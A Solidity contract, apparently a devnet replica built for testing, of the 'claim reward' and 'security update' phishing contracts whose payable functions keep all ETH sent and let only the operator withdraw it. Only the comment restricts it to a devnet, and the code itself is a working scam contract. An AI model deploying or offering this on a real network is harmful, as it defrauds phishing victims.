// SPDX-License-Identifier: MIT
pragma solidity ^0.8.24;

/// A devnet stand-in for the ETH-taking contracts phishing pages ask victims to call ("claim your reward", "security
/// update"): payable functions named after the promise that keep whatever is sent, and a withdraw only the operator
/// can call. Written for the devnet after the public pattern (Revoke.cash's list, verified SecurityUpdates contracts);
/// it pays nothing back. Devnet only.
contract DevClaimScam {
    address private immutable operator;

    constructor() {
        operator = msg.sender;
    }

    function claim() external payable {}

    function SecurityUpdate() external payable {}

    function withdraw() external {
        require(msg.sender == operator, "not the operator");
        payable(operator).transfer(address(this).balance);
    }
}
